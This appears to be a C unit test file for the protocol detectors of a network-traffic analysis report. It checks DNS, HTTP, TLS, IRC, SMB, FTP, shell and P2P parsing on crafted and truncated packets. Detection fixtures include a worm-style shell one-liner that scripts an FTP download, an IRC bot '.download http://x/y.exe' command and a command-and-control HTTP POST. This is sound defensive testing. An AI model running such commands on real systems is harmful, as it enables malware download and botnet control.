@@ -1,0 +1,329 @@
+/*
+ * test_report.c - the report's protocol detectors (analysis/proto_*.c) on
+ * hand-built payloads, well-formed, truncated and malformed, and the
+ * range labels of geo.c.  Every payload is a heap copy of exactly its
+ * length so ASan catches any overread.
+ */
+#include <stdlib.h>
+#include <string.h>
+
+#include "analysis/report-int.h"
+#include "harness.h"
+
+extern const struct rp_proto proto_dns, proto_ntp, proto_overnet, proto_kad, proto_btdht,
+	proto_gnutella, proto_tls, proto_http, proto_smtp, proto_irc, proto_ftp, proto_smb, proto_shell;
+
+static struct rp_col *col;
+
+static struct rp_flow flow(uint8_t proto, uint16_t sport, uint16_t dport)
+{
+	return (struct rp_flow){ .proto = proto, .sport = sport, .dport = dport, .h = { 1, 2 } };
+}
+
+/* Runs detector d on a heap copy of n bytes of p in direction dir. */
+static bool feed(const struct rp_proto *d, struct rp_flow *f, const void *p, size_t n, int dir)
+{
+	uint8_t *b = malloc(n ? n : 1);
+	memcpy(b, p, n);
+	struct rp_seg s = { b, n, dir, 0, NULL };
+	bool ok = d->inspect(col, f, &s);
+	if (ok && !f->app)
+		f->app = d->app;
+	free(b);
+	return ok;
+}
+
+static const char *ev(unsigned cat)
+{
+	static char buf[256];
+	rp_ev_join(col, 1, cat, 1, buf, sizeof buf);
+	return buf;
+}
+
+static void test_dns(void)
+{
+	TEST("dns");
+	static const uint8_t q[] = { 0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0,
+		3, 'w', 'w', 'w', 7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 3, 'c', 'o', 'm', 0, 0, 1, 0, 1 };
+	struct rp_flow f = flow(17, 1100, 53);
+	CHECK(feed(&proto_dns, &f, q, sizeof q, 0));
+	CHECK_EQ_U(f.count, 1);
+	CHECK_STR(ev(EV_DNS_QNAME), "www.example.com");
+	/* the answer: name by pointer to offset 12, A 1.2.3.4 */
+	uint8_t r[sizeof q + 16];
+	memcpy(r, q, sizeof q);
+	r[2] = 0x81, r[3] = 0x80, r[7] = 1;
+	static const uint8_t an[] = { 0xC0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4, 1, 2, 3, 4 };
+	memcpy(r + sizeof q, an, sizeof an);
+	f = flow(17, 1100, 53);
+	CHECK(feed(&proto_dns, &f, r, sizeof r, 1));
+	CHECK(f.facts & RPF_DNS_ANSWER);
+	uint8_t a[16] = { 1, 2, 3, 4 };
+	CHECK_STR(rp_pdns_name(col, 4, a), "www.example.com");
+	/* truncated: every prefix of the query either parses or is refused, never overreads */
+	for (size_t n = 0; n < sizeof q; n++) {
+		f = flow(17, 1100, 53);
+		CHECK(!feed(&proto_dns, &f, q, n, 0));
+	}
+	/* malformed: a pointer to itself, a 64-byte label, no question, another port */
+	uint8_t loop[] = { 0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0xC0, 12, 0, 1, 0, 1 };
+	f = flow(17, 1100, 53);
+	CHECK(!feed(&proto_dns, &f, loop, sizeof loop, 0));
+	uint8_t big[12 + 1 + 64 + 5] = { 0, 1, 1, 0, 0, 1 };
+	big[12] = 64;
+	f = flow(17, 1100, 53);
+	CHECK(!feed(&proto_dns, &f, big, sizeof big, 0));
+	uint8_t noq[sizeof q];
+	memcpy(noq, q, sizeof q);
+	noq[5] = 0;
+	f = flow(17, 1100, 53);
+	CHECK(!feed(&proto_dns, &f, noq, sizeof noq, 0));
+	f = flow(17, 1100, 54);
+	CHECK(!feed(&proto_dns, &f, q, sizeof q, 0));
+	/* tunnel: a 50-character label */
+	uint8_t t[12 + 1 + 50 + 6 + 4 + 4] = { 0, 1, 1, 0, 0, 1 };
+	size_t o = 12;
+	t[o++] = 50;
+	memset(t + o, 'a', 50);
+	o += 50;
+	memcpy(t + o, "\004pira\002te\0\0\x0a\0\x01", 12);
+	f = flow(17, 1100, 53);
+	CHECK(feed(&proto_dns, &f, t, sizeof t, 0));
+	CHECK(f.facts & RPF_DNS_TUNNEL);
+	CHECK_STR(ev(EV_DNS_DOMAIN), "pira.te");
+}
+
+static void test_ntp(void)
+{
+	TEST("ntp");
+	uint8_t p[48] = { 0x23 };   /* v4, mode 3 (client) */
+	struct rp_flow f = flow(17, 123, 123);
+	CHECK(feed(&proto_ntp, &f, p, sizeof p, 0));
+	CHECK(f.facts & RPF_NTP_CLIENT);
+	f = flow(17, 123, 123);
+	CHECK(!feed(&proto_ntp, &f, p, 47, 0));
+	p[0] = 0x20;   /* mode 0 */
+	f = flow(17, 123, 123);
+	CHECK(!feed(&proto_ntp, &f, p, sizeof p, 0));
+	p[0] = 0x23;
+	f = flow(6, 123, 123);
+	CHECK(!feed(&proto_ntp, &f, p, sizeof p, 0));
+}
+
+static void test_smtp(void)
+{
+	TEST("smtp");
+	const char *c = "EHLO bot.example\r\nMAIL FROM:<a@b.c>\r\nRCPT TO:<x@y.z>\r\nRCPT TO:<w@y.z>\r\nDATA\r\n";
+	struct rp_flow f = flow(6, 1200, 25);
+	CHECK(feed(&proto_smtp, &f, c, strlen(c), 0));
+	CHECK_STR(ev(EV_SMTP_HELO), "bot.example");
+	CHECK_EQ_U(f.count, 2);
+	CHECK((f.facts & (RPF_SMTP_MAIL | RPF_SMTP_DATA)) == (RPF_SMTP_MAIL | RPF_SMTP_DATA));
+	f = flow(6, 1200, 25);
+	CHECK(feed(&proto_smtp, &f, "220 mx ESMTP\r\n", 14, 1));
+	f = flow(6, 1200, 25);
+	CHECK(feed(&proto_smtp, &f, "554 go away\r\n", 13, 1));
+	f = flow(6, 1200, 80);
+	CHECK(!feed(&proto_smtp, &f, "220 mx ESMTP\r\n", 14, 1));
+	f = flow(6, 1200, 25);
+	CHECK(!feed(&proto_smtp, &f, "22", 2, 1));
+	f = flow(6, 1200, 25);
+	CHECK(!feed(&proto_smtp, &f, "EHL", 3, 0));
+}
+
+static void test_http(void)
+{
+	TEST("http");
+	const char *p = "POST /gate HTTP/1.1\r\nHost: cc.example\r\nUser-Agent: Bot/1\r\n"
+			"Content-Type: application/octet-stream\r\nContent-Length: 3\r\n\r\nabc";
+	struct rp_flow f = flow(6, 1300, 80);
+	CHECK(feed(&proto_http, &f, p, strlen(p), 0));
+	CHECK((f.facts & (RPF_HTTP_POST | RPF_HTTP_BINARY)) == (RPF_HTTP_POST | RPF_HTTP_BINARY));
+	CHECK_STR(ev(EV_HTTP_HOST), "cc.example");
+	CHECK_STR(ev(EV_HTTP_UA), "Bot/1");
+	const char *g = "GET /dl/ecard.exe?x=1 HTTP/1.0\r\n\r\n";
+	f = flow(6, 1301, 80);
+	CHECK(feed(&proto_http, &f, g, strlen(g), 0));
+	CHECK(f.facts & RPF_EXE);
+	const char *r = "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\nMZ\x90";
+	f = flow(6, 1302, 80);
+	CHECK(feed(&proto_http, &f, r, strlen(r), 1));
+	CHECK(f.facts & RPF_EXE);
+	f = flow(6, 1303, 80);
+	CHECK(!feed(&proto_http, &f, "GET /", 5, 0));
+	f = flow(6, 1304, 80);
+	CHECK(!feed(&proto_http, &f, "\x16\x03\x01", 3, 0));
+	/* every truncation of the request: no overread, headers only as far as present */
+	for (size_t n = 0; n < strlen(p); n++) {
+		f = flow(6, 1305, 80);
+		feed(&proto_http, &f, p, n, 0);
+	}
+}
+
+static size_t tls_hello(uint8_t *b, const char *sni)
+{
+	size_t nl = strlen(sni), o = 0;
+	size_t ext = 9 + nl, hs = 2 + 32 + 1 + 2 + 2 + 1 + 1 + 2 + ext;
+	b[o++] = 22, b[o++] = 3, b[o++] = 1, b[o++] = (uint8_t)((hs + 4) >> 8), b[o++] = (uint8_t)(hs + 4);
+	b[o++] = 1, b[o++] = 0, b[o++] = (uint8_t)(hs >> 8), b[o++] = (uint8_t)hs;
+	b[o++] = 3, b[o++] = 3;
+	memset(b + o, 7, 32), o += 32;
+	b[o++] = 0;                                  /* session id */
+	b[o++] = 0, b[o++] = 2, b[o++] = 0x13, b[o++] = 1;   /* one suite */
+	b[o++] = 1, b[o++] = 0;                      /* compression */
+	b[o++] = (uint8_t)(ext >> 8), b[o++] = (uint8_t)ext;
+	b[o++] = 0, b[o++] = 0, b[o++] = (uint8_t)((nl + 5) >> 8), b[o++] = (uint8_t)(nl + 5);
+	b[o++] = (uint8_t)((nl + 3) >> 8), b[o++] = (uint8_t)(nl + 3), b[o++] = 0;
+	b[o++] = (uint8_t)(nl >> 8), b[o++] = (uint8_t)nl;
+	memcpy(b + o, sni, nl);
+	return o + nl;
+}
+
+static void test_tls(void)
+{
+	TEST("tls");
+	uint8_t b[256];
+	size_t n = tls_hello(b, "c2.example.org");
+	struct rp_flow f = flow(6, 1400, 443);
+	CHECK(feed(&proto_tls, &f, b, n, 0));
+	CHECK_STR(ev(EV_TLS_SNI), "c2.example.org");
+	for (size_t k = 0; k < n; k++) {   /* truncated anywhere: never an overread */
+		f = flow(6, 1400, 443);
+		feed(&proto_tls, &f, b, k, 0);
+	}
+	b[1] = 2;   /* not TLS 1.x */
+	f = flow(6, 1400, 443);
+	CHECK(!feed(&proto_tls, &f, b, n, 0));
+}
+
+static void test_irc(void)
+{
+	TEST("irc");
+	const char *c = "NICK bot123\r\nUSER bot 0 * :bot\r\nJOIN :#dark\r\n";
+	struct rp_flow f = flow(6, 1500, 6667);
+	CHECK(feed(&proto_irc, &f, c, strlen(c), 0));
+	CHECK((f.facts & (RPF_IRC_REG | RPF_IRC_JOIN)) == (RPF_IRC_REG | RPF_IRC_JOIN));
+	CHECK_STR(ev(EV_IRC_NICK), "bot123");
+	CHECK_STR(ev(EV_IRC_CHAN), "#dark");
+	const char *s = ":boss!x@y PRIVMSG #dark :.download http://x/y.exe\r\n";
+	CHECK(feed(&proto_irc, &f, s, strlen(s), 1));
+	CHECK(f.facts & RPF_IRC_CMD);
+	CHECK_STR(ev(EV_IRC_CMD), ".download http://x/y.exe");
+	f = flow(6, 1501, 6667);
+	CHECK(!feed(&proto_irc, &f, "hello world\r\n", 13, 0));
+	f = flow(6, 1502, 6667);
+	CHECK(!feed(&proto_irc, &f, ":", 1, 1));
+	f = flow(6, 1503, 6667);
+	CHECK(!feed(&proto_irc, &f, "USER anonymous\r\n", 16, 0));   /* FTP's, not IRC's */
+}
+
+static void test_ftp_smb_shell(void)
+{
+	TEST("ftp");
+	struct rp_flow f = flow(6, 1600, 8884);
+	CHECK(feed(&proto_ftp, &f, "USER 1\r\n", 8, 0));
+	CHECK(feed(&proto_ftp, &f, "RETR ssms.exe\r\n", 15, 0));
+	CHECK(f.facts & RPF_EXE);
+	CHECK(f.facts & RPF_FTP_LOGIN);
+	f = flow(6, 1601, 8884);
+	CHECK(!feed(&proto_ftp, &f, "QUIT\r\n", 6, 0));
+	TEST("smb");
+	uint8_t smb[4 + 32 + 8] = { 0, 0, 0, 40, 0xFF, 'S', 'M', 'B', 0x32 };
+	f = flow(6, 1700, 445);
+	CHECK(feed(&proto_smb, &f, smb, sizeof smb, 0));
+	CHECK(f.facts & RPF_SMB_TRANS2);
+	uint8_t nt[4 + 32 + 12] = { 0, 0, 0, 44, 0xFF, 'S', 'M', 'B', 0xA0 };
+	nt[4 + 32] = 19;                      /* word count */
+	nt[4 + 32 + 4 + 2] = 0x01;            /* total parameter count 0x10000 */
+	f = flow(6, 1701, 445);
+	CHECK(feed(&proto_smb, &f, nt, sizeof nt, 0));
+	CHECK(f.facts & RPF_SMB_NTTRANS);
+	f = flow(6, 1702, 445);
+	CHECK(!feed(&proto_smb, &f, smb, 6, 0));
+	f = flow(6, 1703, 80);
+	CHECK(!feed(&proto_smb, &f, smb, sizeof smb, 0));
+	TEST("shell");
+	const char *sh = "echo open 0.0.0.0 8884 > o&echo user 1 1 >> o &ftp -n -s:o\r\n";
+	f = flow(6, 1800, 1957);
+	CHECK(feed(&proto_shell, &f, sh, strlen(sh), 0));
+	CHECK(f.facts & RPF_SHELL);
+	f = flow(6, 1800, 80);
+	CHECK(!feed(&proto_shell, &f, sh, strlen(sh), 0));
+}
+
+static void test_p2p(void)
+{
+	TEST("overnet");
+	static const uint8_t ack[] = { 0xE3, 0x0D };   /* PublicizeAck: empty */
+	struct rp_flow f = flow(17, 20000, 30000);
+	CHECK(feed(&proto_overnet, &f, ack, sizeof ack, 0));
+	static const uint8_t bad[] = { 0xE3, 0xFF };
+	f = flow(17, 20000, 30000);
+	CHECK(!feed(&proto_overnet, &f, bad, sizeof bad, 0));
+	f = flow(17, 20000, 30000);
+	CHECK(!feed(&proto_overnet, &f, ack, 1, 0));
+	static const uint8_t conn[] = { 0xE3, 0x0A, 1, 2 };   /* Connect cut short */
+	f = flow(17, 20000, 30000);
+	CHECK(!feed(&proto_overnet, &f, conn, sizeof conn, 0));
+	TEST("kad");
+	static const uint8_t kad[] = { 0xE4, 0x21, 0, 0 };
+	f = flow(17, 20000, 30000);
+	CHECK(feed(&proto_kad, &f, kad, sizeof kad, 0));
+	f = flow(17, 20000, 30000);
+	CHECK(!feed(&proto_kad, &f, kad, 1, 0));
+	TEST("bittorrent_dht");
+	const char *d = "d1:ad2:id20:abcdefghij0123456789e1:q4:ping1:t2:aa1:y1:qe";
+	f = flow(17, 20000, 30000);
+	CHECK(feed(&proto_btdht, &f, d, strlen(d), 0));
+	f = flow(17, 20000, 30000);
+	CHECK(!feed(&proto_btdht, &f, d, 11, 0));
+	TEST("gnutella");
+	f = flow(6, 20000, 6346);
+	CHECK(feed(&proto_gnutella, &f, "GNUTELLA CONNECT/0.6\r\n", 22, 0));
+	f = flow(6, 20000, 6346);
+	CHECK(!feed(&proto_gnutella, &f, "GNUT", 4, 0));
+}
+
+static void test_ranges(void)
+{
+	TEST("geo ranges");
+	uint8_t a[16] = { 192, 168, 1, 1 };
+	CHECK_STR(geo_range(4, a), "private (RFC 1918)");
+	uint8_t b[16] = { 172, 31, 255, 1 };
+	CHECK_STR(geo_range(4, b), "private (RFC 1918)");
+	uint8_t c[16] = { 172, 32, 0, 1 };
+	CHECK(geo_range(4, c) == NULL);
+	uint8_t d[16] = { 0xfd, 0 };
+	CHECK_STR(geo_range(6, d), "unique local (RFC 4193)");
+	CHECK(rp_kind_malicious("spam"));
+	CHECK(!rp_kind_malicious("dns"));
+}
+
+static void test_evidence_bound(void)
+{
+	TEST("evidence bound");
+	char s[32];
+	for (unsigned i = 0; i < RP_EV_MAX + 100; i++) {
+		int n = snprintf(s, sizeof s, "name%u", i);
+		rp_ev_add(col, 9, EV_DNS_QNAME, (const uint8_t *)s, (size_t)n);
+	}
+	CHECK(rp_ev_total(col, 9, EV_DNS_QNAME) <= RP_EV_MAX);
+	CHECK(!rp_col_oom(col));
+}
+
+int main(void)
+{
+	col = rp_col_new();
+	test_dns();
+	test_ntp();
+	test_smtp();
+	test_http();
+	test_tls();
+	test_irc();
+	test_ftp_smb_shell();
+	test_p2p();
+	test_ranges();
+	test_evidence_bound();
+	rp_col_free(col);
+	return harness_report("report");
+}
